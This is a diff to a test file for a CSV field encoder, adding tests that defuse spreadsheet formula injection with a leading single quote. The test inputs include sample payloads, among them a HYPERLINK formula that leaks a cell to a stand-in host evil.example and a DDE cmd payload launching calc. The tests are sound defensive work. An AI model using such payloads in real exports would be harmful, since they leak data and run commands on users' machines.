@@ -54,8 +54,17 @@ describe("csvField (RFC 4180)", () => {
     expect(csvField(undefined)).toBe("");
   });
 
-  it("writes formula-looking text as stored (the export is evidence)", () => {
-    expect(csvField("=SUM(A1)")).toBe("=SUM(A1)");
+  it("defuses cells a spreadsheet would run as a formula, with a leading single quote", () => {
+    expect(csvField('=HYPERLINK("http://evil.example/?leak="&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
+    expect(csvField("=SUM(A1)")).toBe("'=SUM(A1)");
+    expect(csvField("+1+cmd|' /C calc'!A0")).toBe("'+1+cmd|' /C calc'!A0");
+    expect(csvField("-2+3")).toBe("'-2+3");
+    expect(csvField("@SUM(A1)")).toBe("'@SUM(A1)");
+    expect(csvField("\t=1")).toBe("'\t=1");
+    expect(csvField("\r=1")).toBe(`"'\r=1"`);
+    // only the first character matters
+    expect(csvField("a=b")).toBe("a=b");
+    expect(csvField("2026-11-23T10:00:00.000Z")).toBe("2026-11-23T10:00:00.000Z");
   });
 
   it("ends records with CRLF", () => {
